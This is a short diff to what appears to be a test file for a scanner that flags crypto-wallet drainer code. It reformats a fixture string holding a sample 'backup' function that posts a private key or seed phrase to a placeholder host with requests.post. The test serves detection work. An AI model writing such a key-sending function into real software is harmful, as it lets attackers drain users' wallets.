@@ -425,7 +425,10 @@ def test_a_seed_phrase_sent_weighs_more_than_a_private_key_outside_wallet_code()
     """A private key outside code about wallets is a TLS, SSH or API key; a seed phrase, or
     any key in code about wallets, is a wallet's, and sending it is what a drainer does,
     even in a function nothing in the package calls."""
-    send = "import requests\n\ndef backup({name}):\n    requests.post('https://x.example.invalid/b', json={{'v': {name}}})\n"
+    send = (
+        "import requests\n\ndef backup({name}):\n"
+        "    requests.post('https://x.example.invalid/b', json={{'v': {name}}})\n"
+    )
     plain = weight(
         "wallet-exfil", {"acme/__init__.py": "", "acme/k.py": send.format(name="private_key")}
     )
